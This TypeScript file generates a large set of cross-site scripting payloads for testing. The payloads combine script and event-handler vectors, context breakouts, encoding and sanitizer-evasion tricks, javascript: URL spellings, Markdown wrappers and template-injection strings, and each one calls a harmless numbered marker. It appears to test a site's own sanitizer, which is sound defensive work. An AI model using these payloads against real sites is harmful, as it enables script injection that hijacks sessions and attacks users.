/** A text that calls `window.__xss(number)` if a page takes any of it for markup or code. */
export interface Payload {
  number: number;
  text: string;
}

const NUL = "\u0000";

/** Ways to run code in HTML. Their elements have the class `xss`. */
const VECTORS: ((call: string) => string)[] = [
  (call) => `<script class=xss>${call}</script>`,
  (call) => `<img class=xss src=x onerror=${call}>`,
  (call) => `<svg class=xss onload=${call}>`,
  (call) => `<svg class=xss><script>${call}</script></svg>`,
  (call) => `<svg><animate class=xss onbegin=${call} dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x`,
  (call) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  (call) => `<details class=xss open ontoggle=${call}>`,
  (call) => `<input class=xss autofocus onfocus=${call}>`,
  (call) => `<video><source class=xss onerror=${call}></video>`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<form action="javascript:${call}"><button>`,
  (call) => `<button formaction="javascript:${call}">`,
  (call) => `<a class=xss href="javascript:${call}">x</a>`,
  (call) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  (call) => `<style class=xss onload=${call}></style>`,
  (call) => `<p class=xss style=x:y onanimationstart=${call}>`,
  (call) => `<base class=xss href="/${call}/">`,
];

/** Ends of what a page may put a field into. */
const CONTEXTS = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "</script>",
  "</style>",
  "</noscript>",
  "</option></select>",
  "</template>",
  "-->",
  "]]>",
  '"}</script>',
  "</bdi></a></h1>",
];

/** Ends of attributes, without a new element. */
const ATTRIBUTES: ((call: string) => string)[] = [
  (call) => `" autofocus onfocus="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `" onpointerenter=${call} x="`,
  (call) => `x onload=${call} `,
  (call) => `\`onerror=${call}\``,
  (call) => `\\" onfocus=${call} autofocus \\"`,
  (call) => `";${call};"`,
  (call) => `';${call};'`,
  (call) => `\\u0022;${call};//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `\`+${call}+\``,
];

/** Other spellings of markup. */
const ENCODINGS: ((markup: string) => string)[] = [
  (markup) => markup.replace(/[<>"]/g, (it) => `&#${it.charCodeAt(0)};`),
  (markup) => markup.replace(/[<>"]/g, (it) => `&#x${it.charCodeAt(0).toString(16)}`),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (markup) => markup.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (markup) => markup.replaceAll("<", "%253C").replaceAll(">", "%253E"),
  (markup) => markup.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (markup) => markup.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (markup) => markup.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (markup) => markup.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (markup) => markup.replaceAll("<", "\u00c0\u00bc"),
  (markup) => markup.replace(/[<]/g, "\\<"),
  (markup) => markup.replace(/<(\w)/, "<\u200b$1"),
  (markup) => markup.replace(/<(\w)/, "<<$1").replace(/>/, "//"),
  (markup) => markup.replace(/<(\w+) ?/, "<$1/"),
  (markup) => markup.replace(/<\w+/, (it) => it.toUpperCase()),
  (markup) => markup.replace(/<(\w)/, "<!--><$1"),
  (markup) => markup.replace(/<(\w)/, "<x:$1"),
];

/** Spellings of URLs that run code. */
const ADDRESSES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `&#1;javascript:${call}`,
  (call) => `javascript%3A${call}`,
  (call) => `//%0ajavascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html;<script>${call}</script>`,
  (call) => `data:image/svg+xml;<svg onload=${call}>`,
  (call) => `view-source:javascript:${call}`,
];

/** Marks of Markdown with a URL. */
const LINKS: ((url: string, number: number) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
  (url, number) => `[x][r${number}]\n\n[r${number}]: ${url}`,
  (url) => `<a href="${url}">x</a>`,
];

/** Marks of Markdown and its extensions around markup. */
const MARKDOWN: ((markup: string, number: number) => string)[] = [
  (markup) => `> [!NOTE] ${markup}\n> ${markup}`,
  (markup) => `> [!WARNING"${markup}]\n> x`,
  (markup) => `${markup}\n: ${markup}`,
  (markup) => `## ${markup} {#x"${markup}}`,
  (markup) => `## x {#${markup}}`,
  (markup) => `x\n{: #y onload="${markup}"}`,
  (markup) => `| ${markup} | x |\n|---|:-:|\n| x | ${markup} |`,
  (markup) => `- [ ] ${markup}\n- [x] ${markup}`,
  (markup, number) => `x[^f${number}]\n\n[^f${number}]: ${markup}`,
  (markup, number) => `x[^${number}"${markup}]\n\n[^${number}"${markup}]: x`,
  (markup) => `\`\`\`js"${markup}\n${markup}\n\`\`\``,
  (markup) => `~~~html ${markup}\n${markup}\n~~~`,
  (markup) => `\`${markup}\``,
  (markup) => `**${markup}** *${markup}* ~~${markup}~~`,
  (markup) => `[${markup}](/news "${markup}")`,
  (markup) => `![${markup}](/pictures/night-train.svg '${markup}')`,
  (markup) => `<div>\n\n${markup}\n\n</div>`,
  (markup) => `<!-- ${markup} -->${markup}`,
  (markup) => `<![CDATA[${markup}]]>`,
  (markup) => `<?x ${markup}?>${markup}`,
  (markup) => `{{< figure src="/pictures/night-train.svg" caption="${markup}" >}}`,
  (markup) => `<noscript><p title="</noscript>${markup}">`,
  (markup) => `<math><mtext><table><mglyph><style>${markup}`,
  (markup) => `<svg></p><style><a id="</style>${markup}">`,
  (markup) => `<section class="footnotes"><a id="__xss" name="${markup}">`,
];

/** Markup that is only alive in the site's own pages, or in the templates of other systems. */
const OWN: ((call: string) => string)[] = [
  (call) => `<script data-module="data:text/javascript;${call}"></script>`,
  (call) => `<leptos-island data-component="${call}"></leptos-island>`,
  (call) => `<leptos-children class=xss onclick=${call}>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `{% ${call} %}`,
  (call) => `\u202e<img class=xss src=x onerror=${call}>`,
  (call) => `\u2066"><svg class=xss onload=${call}>\u2069`,
  (call) => `<${NUL}script class=xss>${call}</script>`,
  (call) => `<img class=xss src=x o${NUL}nerror=${call}>`,
  (call) => `<img\u000bclass=xss src=x onerror=${call}>`,
  (call) => `<img class=xss src=x\u000conerror=${call}>`,
  (call) => `\u001b[31m<svg class=xss onload=${call}>`,
];

/** Makes every payload: each has its own number. */
export function payloads(): Payload[] {
  const made: Payload[] = [];
  const add = (make: (call: string, number: number) => string) => {
    const number = made.length + 100;
    made.push({ number, text: make(`__xss(${number})`, number) });
  };
  const image = VECTORS[1]!;
  const script = VECTORS[0]!;
  // Every context with the usual vectors, and each other vector in several contexts.
  for (const [row, context] of CONTEXTS.entries()) {
    for (const [column, vector] of VECTORS.entries()) {
      if (row === 0 || column < 8 || (row + column) % 3 === 0) add((call) => context + vector(call));
    }
  }
  for (const attribute of ATTRIBUTES) add(attribute);
  for (const encoding of ENCODINGS) {
    for (const vector of [script, image]) add((call) => encoding(vector(call)));
  }
  for (const address of ADDRESSES) {
    for (const link of LINKS) add((call, number) => link(address(call), number));
  }
  for (const mark of MARKDOWN) add((call, number) => mark(image(call), number));
  for (const own of OWN) add(own);
  return made;
}

/** Whether a field of one line takes the text: no control characters and direction overrides. */
export function isOneLine({ text }: Payload): boolean {
  return !/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(text);
}

/** Whether the body of a story takes the text. */
export function isForBody({ text }: Payload): boolean {
  return !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/.test(text);
}

/** Joins payloads to texts of at most `length` characters, and leaves out longer ones. */
export function pack(payloads: Payload[], length: number, separator = " "): string[] {
  const packs: string[] = [];
  for (const { text } of payloads) {
    if (text.length > length) continue;
    const last = packs.at(-1);
    if (last !== undefined && last.length + separator.length + text.length <= length) {
      packs[packs.length - 1] = last + separator + text;
    } else {
      packs.push(text);
    }
  }
  return packs;
}
